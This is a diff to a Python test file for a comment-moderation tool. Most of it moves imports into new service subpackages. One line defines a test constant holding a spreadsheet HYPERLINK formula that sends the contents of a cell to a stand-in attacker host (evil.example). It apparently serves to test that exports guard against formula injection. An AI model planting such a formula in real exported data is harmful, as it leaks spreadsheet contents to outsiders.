@@ -12,12 +12,14 @@ import pytest
 
 from moderator.core.comment import Decision, NewComment
 from moderator.core.query import EVERYTHING, parse
-from moderator.services import evidence, handback, reporting, reviewing
-from moderator.services.export_formats import guarded
-from moderator.services.exporting import SUFFIXES, export
+from moderator.services.forms.export_formats import guarded
+from moderator.services.forms.records import FIELDS
+from moderator.services.handout import evidence, handback
+from moderator.services.handout.exporting import SUFFIXES, export
 from moderator.services.library import Library
-from moderator.services.records import FIELDS
-from tests.services.test_reporting import harmless
+from moderator.services.report import reporting
+from moderator.services.review import reviewing
+from tests.services.report.test_reporting import harmless
 from tests.store.making import fill
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
